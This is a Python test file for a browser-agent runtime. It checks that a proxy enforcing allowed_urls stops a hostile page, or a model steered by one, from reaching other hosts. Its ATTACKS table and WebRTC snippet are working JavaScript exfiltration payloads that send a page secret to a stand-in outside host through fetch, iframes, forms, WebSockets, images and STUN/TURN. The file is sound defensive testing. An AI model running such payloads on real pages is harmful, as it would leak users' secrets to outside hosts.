"""allowed_urls at one choke point: a hostile page in a task with allowed_urls reaches no other
host by any route (navigations, subresources, sockets, preconnects, WebRTC), and not even by a
bare TCP connection; what is allowed still works through the proxy.

The outside host is a recorder on its own loopback address (127.0.0.2: Linux answers on all of
127/8), of TCP connections, the bytes they carry and UDP datagrams. Every attack is also run in
a task without allowed_urls, where the recorder must see it: the attacks are real.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import threading
import time
from collections.abc import AsyncIterator, Iterator

import httpx2
import pytest

from smooth_agents.local import LocalRuntime
from smooth_agents.local.browser.proxy import ProxyGate, Upstream
from smooth_agents.local.browser.session import BrowserSession
from smooth_agents.local.browser.url_policy import UrlPolicy
from smooth_agents.local.tasks.task import Task
from tests.helpers import SiteServer, make_settings

SECRET = "s3cr3t-of-the-page"


class OutsideHost:
    """A host outside the task's allowed_urls, recording whatever reaches it: each TCP connection
    (and its first bytes: an HTTP request, a TLS hello, a TURN message) and each UDP datagram
    (STUN, TURN), on one port number for both."""

    ADDRESS = "127.0.0.2"

    def __init__(self) -> None:
        self.connections: list[bytes] = []  # the first bytes of each, b"" for none
        self.datagrams: list[bytes] = []
        self._lock = threading.Lock()
        self._tcp, self._udp = self._bind()
        self.port = self._tcp.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    def _bind(self) -> tuple[socket.socket, socket.socket]:
        for _ in range(20):  # a TCP port whose UDP twin is free
            tcp = socket.create_server((self.ADDRESS, 0))
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                udp.bind((self.ADDRESS, tcp.getsockname()[1]))
            except OSError:
                tcp.close()
                udp.close()
                continue
            return tcp, udp
        raise RuntimeError("no free port pair on 127.0.0.2")

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:  # closed
                return
            with self._lock:
                index = len(self.connections)
                self.connections.append(b"")
            threading.Thread(target=self._read, args=(connection, index), daemon=True).start()

    def _read(self, connection: socket.socket, index: int) -> None:
        with connection:
            connection.settimeout(2)
            with contextlib.suppress(OSError):
                first = connection.recv(4096)
                with self._lock:
                    self.connections[index] = first

    def _receive(self) -> None:
        while True:
            try:
                datagram, _ = self._udp.recvfrom(65536)
            except OSError:  # closed
                return
            with self._lock:
                self.datagrams.append(datagram)

    @property
    def authority(self) -> str:
        return f"{self.ADDRESS}:{self.port}"

    def url(self, scheme: str = "http") -> str:
        return f"{scheme}://{self.authority}/leak?secret={SECRET}"

    def seen(self) -> list[str]:
        """Everything that reached this host, described."""
        with self._lock:
            return [f"tcp {data[:60]!r}" for data in self.connections] + [
                f"udp {data[:20]!r}" for data in self.datagrams
            ]

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def outside() -> Iterator[OutsideHost]:
    host = OutsideHost()
    try:
        yield host
    finally:
        host.close()


@pytest.fixture(scope="module")
async def runtime(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[LocalRuntime]:
    running = LocalRuntime(make_settings(tmp_path_factory.mktemp("choke-point")))
    await running.start()
    try:
        yield running
    finally:
        await running.aclose()


async def open_task(runtime: LocalRuntime, url: str, allowed_urls: list[str] | None = None) -> Task:
    fields = {"task": None, "url": url, "allowed_urls": allowed_urls}
    return await runtime.submit(runtime.parse_task_request(fields))


def browser_of(task: Task) -> BrowserSession:
    assert task.browser is not None
    return task.browser


# Each takes the outside URL (http or https, with the page's secret in its query) and reaches for
# it from the page of an allowed site, the way a hostile page (or a model told by one) would.
ATTACKS = {
    "iframe": "(u) => { const f = document.createElement('iframe'); f.src = u; document.body.append(f) }",
    "form-post": """(u) => { const f = document.createElement('form'); f.method = 'post'; f.action = u;
        const i = document.createElement('input'); i.name = 'secret'; i.value = 'x'; f.append(i);
        document.body.append(f); f.submit() }""",
    "download-link": """(u) => { const a = document.createElement('a'); a.href = u;
        a.download = 'leak.txt'; document.body.append(a); a.click() }""",
    "window-open": "(u) => { window.open(u) }",
    "location": "(u) => { location = u }",
    "fetch": "(u) => { fetch(u, {mode: 'no-cors'}).catch(() => null) }",
    "websocket": "(u) => { new WebSocket(u.replace(/^http/, 'ws')) }",
    "image": "(u) => { const i = new Image(); i.src = u; document.body.append(i) }",
    "preconnect": """(u) => { for (const rel of ['preconnect', 'dns-prefetch']) {
        const l = document.createElement('link'); l.rel = rel; l.href = new URL(u).origin;
        document.head.append(l) } }""",
}

# An RTCPeerConnection whose STUN and TURN servers (UDP and TCP) are the outside host; the TURN
# username carries the secret. Answers once ICE gathering is over (or after 8 s).
WEBRTC = """async ([host, port, secret]) => {
  const pc = new RTCPeerConnection({iceServers: [
    {urls: `stun:${host}:${port}`},
    {urls: [`turn:${host}:${port}?transport=udp`, `turn:${host}:${port}?transport=tcp`],
     username: secret, credential: secret}]});
  pc.createDataChannel('leak');
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise((done) => {
    pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') done() };
    setTimeout(done, 8000) });
  pc.close();
  return 'gathered'
}"""


async def settle(session: BrowserSession, outside: OutsideHost, timeout: float) -> None:
    """Until the guard or the proxy has refused something of the outside host (or ``timeout``),
    then a moment more for anything that would get past both."""
    deadline = time.monotonic() + timeout
    gate = session.network_gate
    while time.monotonic() < deadline:
        refused = session.guard.blocked + (gate.refused if gate is not None else [])
        if any(outside.authority in what for what in refused):
            break
        await asyncio.sleep(0.05)
    await asyncio.sleep(1.0)


@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize("attack", list(ATTACKS))
async def test_a_page_with_allowed_urls_reaches_no_other_host(
    runtime: LocalRuntime, site: SiteServer, outside: OutsideHost, attack: str, scheme: str
) -> None:
    task = await open_task(runtime, site.url("demo/index.html"), [f"http://127.0.0.1:{site.port}/**"])
    try:
        session = browser_of(task)
        assert session.network_gate is not None
        await session.evaluate_js(ATTACKS[attack], outside.url(scheme))
        await settle(session, outside, timeout=5)
        assert outside.seen() == []
    finally:
        await runtime.cancel(task.id)


@pytest.mark.parametrize("attack", [name for name in ATTACKS if name != "preconnect"])
async def test_the_same_attacks_reach_the_host_without_allowed_urls(
    runtime: LocalRuntime, site: SiteServer, outside: OutsideHost, attack: str
) -> None:
    # The control: without allowed_urls nothing stands in the way, and the recorder sees it.
    # (A preconnect is a hint Chromium may ignore: it has no control.)
    task = await open_task(runtime, site.url("demo/index.html"))
    try:
        session = browser_of(task)
        assert session.network_gate is None
        await session.evaluate_js(ATTACKS[attack], outside.url("http"))
        deadline = time.monotonic() + 10
        while not outside.seen() and time.monotonic() < deadline:
            await asyncio.sleep(0.05)
        assert outside.seen(), f"{attack} never reached the outside host"
    finally:
        await runtime.cancel(task.id)


async def test_webrtc_sends_nothing_around_the_choke_point(
    runtime: LocalRuntime, site: SiteServer, outside: OutsideHost
) -> None:
    task = await open_task(runtime, site.url("demo/index.html"), [f"http://127.0.0.1:{site.port}/**"])
    try:
        session = browser_of(task)
        args = [OutsideHost.ADDRESS, outside.port, SECRET]
        assert await session.evaluate_js(WEBRTC, args) == "gathered"
        await settle(session, outside, timeout=1)
        assert outside.seen() == []  # no STUN or TURN over UDP, no TURN over TCP
        # TURN over TCP was tried, through the proxy, which refused the host.
        assert session.network_gate is not None
        assert outside.authority in session.network_gate.refused
    finally:
        await runtime.cancel(task.id)


async def test_webrtc_without_allowed_urls_sends_no_udp_either(
    runtime: LocalRuntime, site: SiteServer, outside: OutsideHost
) -> None:
    # The control, and the cost of the browser-wide flag: without allowed_urls a page's TURN over
    # TCP reaches the host, while no UDP leaves the browser outside a proxy.
    task = await open_task(runtime, site.url("demo/index.html"))
    try:
        args = [OutsideHost.ADDRESS, outside.port, SECRET]
        assert await browser_of(task).evaluate_js(WEBRTC, args) == "gathered"
        assert outside.connections, outside.seen()  # TURN over TCP
        assert outside.datagrams == []
    finally:
        await runtime.cancel(task.id)


async def test_allowed_pages_sockets_and_downloads_pass_the_proxy(
    runtime: LocalRuntime, site: SiteServer
) -> None:
    task = await open_task(runtime, site.url("demo/index.html"), [f"http://127.0.0.1:{site.port}/**"])
    try:
        session = browser_of(task)
        assert session.network_gate is not None
        landed = await session.goto(site.url("demo/product.html"))
        assert landed.title == "Nimbus 14 Pro Laptop | Demo Store"
        fetched = "(u) => fetch(u).then(r => r.text())"
        assert "Nimbus" in await session.evaluate_js(fetched, site.url("demo/product.html"))
        download = "(u) => { const a = document.createElement('a'); a.href = u; a.download = ''; a.click() }"
        await session.evaluate_js(download, site.url("download/report.txt"))
        assert task.files is not None
        deadline = time.monotonic() + 30
        # Kept once the task says so (the file is there, but not whole, while it arrives).
        while not [e for e in task.events if e.name == "download" and e.payload.get("saved")]:
            assert time.monotonic() < deadline, [e.payload for e in task.events if e.name == "download"]
            await asyncio.sleep(0.05)
        assert (task.files.downloads_dir / "report.txt").read_text() == "file report.txt\n"
        # Nothing of the site was refused (Chromium's own calls to Google's hosts are).
        assert not any(f":{site.port}" in what for what in session.network_gate.refused)
    finally:
        await runtime.cancel(task.id)


async def test_a_tasks_own_proxy_carries_its_allowed_connections(
    runtime: LocalRuntime, site: SiteServer, outside: OutsideHost
) -> None:
    # The task's proxy_server (here one that lets only the site through and tells what it
    # refused) is the upstream of its gate: a page on the site loads through both, and the
    # outside host, allowed by the task's own list, is refused by its proxy, and never reached.
    upstream = await ProxyGate.open(UrlPolicy([f"http://127.0.0.1:{site.port}/**"]))
    try:
        fields = {
            "task": None,
            "url": site.url("demo/index.html"),
            "allowed_urls": [f"http://127.0.0.1:{site.port}/**", f"http://{outside.authority}/**"],
            "proxy_server": f"127.0.0.1:{upstream.port}",
            "proxy_username": "someone",
            "proxy_password": "their password",
        }
        task = await runtime.submit(runtime.parse_task_request(fields))
        try:
            session = browser_of(task)
            assert await session.evaluate_js("document.title") == "Demo Store & News — Smooth local demo site"
            await session.evaluate_js(ATTACKS["fetch"], outside.url("http"))
            deadline = time.monotonic() + 10
            while outside.authority not in upstream.refused and time.monotonic() < deadline:
                await asyncio.sleep(0.05)
            assert outside.authority in upstream.refused
            assert outside.seen() == []
        finally:
            await runtime.cancel(task.id)
    finally:
        upstream.close()


# -- the proxy itself, with a real HTTP client -------------------------------------------------


@pytest.fixture
async def gate(site: SiteServer) -> AsyncIterator[ProxyGate]:
    opened = await ProxyGate.open(UrlPolicy([f"http://127.0.0.1:{site.port}/**"]))
    try:
        yield opened
    finally:
        opened.close()


async def test_the_proxy_forwards_allowed_requests_with_their_bodies(
    gate: ProxyGate, site: SiteServer
) -> None:
    proxy = gate.proxy_settings()["server"]
    async with httpx2.AsyncClient(proxy=proxy, timeout=10) as client:
        page = await client.get(site.url("demo/product.html"))
        assert page.status_code == 200
        assert "Nimbus 14 Pro Laptop" in page.text
        form = {"username": "ada", "password": "correct horse battery"}
        signed_in = await client.post(site.url("login/session"), data=form)
        assert signed_in.status_code == 303
        assert signed_in.headers["location"] == "/login/account"
    assert gate.refused == []


async def test_the_proxy_refuses_other_hosts_before_connecting(
    gate: ProxyGate, site: SiteServer, outside: OutsideHost
) -> None:
    proxy = gate.proxy_settings()["server"]
    async with httpx2.AsyncClient(proxy=proxy, timeout=10) as client:
        plain = await client.get(outside.url("http"))
        assert plain.status_code == 403
        with pytest.raises(httpx2.ProxyError):
            await client.get(outside.url("https"))
        # Same host as the site, another port: another origin, refused too.
        other_port = await client.get(f"http://127.0.0.1:{outside.port}/")
        assert other_port.status_code == 403
    assert outside.seen() == []
    # The log and the list name the host and path, never the query a page tried to send.
    assert gate.refused == [
        f"http://{outside.authority}/leak",
        outside.authority,
        f"http://127.0.0.1:{outside.port}/",
    ]
    assert not any(SECRET in what for what in gate.refused)


async def test_the_proxy_tunnels_to_allowed_hosts(gate: ProxyGate, site: SiteServer) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", gate.port)
    try:
        authority = f"127.0.0.1:{site.port}".encode()
        writer.write(b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + authority + b"\r\n\r\n")
        assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
        writer.write(
            b"GET /demo/product.html HTTP/1.1\r\nHost: " + authority + b"\r\nConnection: close\r\n\r\n"
        )
        answer = await reader.read()
        assert answer.startswith(b"HTTP/1.1 200")
        assert b"Nimbus 14 Pro Laptop" in answer
    finally:
        writer.close()


def test_upstream_proxies_are_read_as_playwright_reads_them() -> None:
    plain = Upstream.from_settings({"server": "proxy.example:3128", "username": "u", "password": "p"})
    assert (plain.scheme, plain.host, plain.port) == ("http", "proxy.example", 3128)
    assert plain.authorization() == b"Proxy-Authorization: Basic dTpw\r\n"
    socks = Upstream.from_settings({"server": "socks5://10.0.0.1"})
    assert (socks.scheme, socks.port, socks.authorization()) == ("socks5", 1080, b"")
    with pytest.raises(ValueError, match="socks4"):
        Upstream.from_settings({"server": "socks4://10.0.0.1:1080"})
